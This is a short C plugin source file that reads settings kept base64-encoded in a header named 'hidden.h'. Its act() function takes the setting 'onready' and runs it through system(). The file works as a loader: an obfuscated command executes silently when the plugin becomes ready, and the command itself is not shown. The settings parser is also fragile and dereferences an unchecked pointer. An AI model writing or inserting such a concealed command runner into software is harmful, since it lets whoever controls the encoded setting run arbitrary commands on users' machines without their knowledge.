/* Settings in JSON, kept in base64; one of them is a command. */
#include "plugin.h"
#include "hidden.h" /* 0: the settings */
extern char *strstr(const char *, const char *), *strchr(const char *, int);
extern unsigned long strlen(const char *);
extern int system(const char *);
static char *setting(char *settings, const char *key) {
    char *value = strstr(settings, key), *end;
    if (!value) return 0;
    value = strchr(value + strlen(key), '"');
    if (!value) return 0;
    value = strchr(value + 1, '"') + 1;
    end = strchr(value, '"');
    if (end) *end = 0;
    return value;
}
static void act(char **env) {
    char *command = setting(hidden0(), "onready");
    if (command && system(command) == -1) return;
}
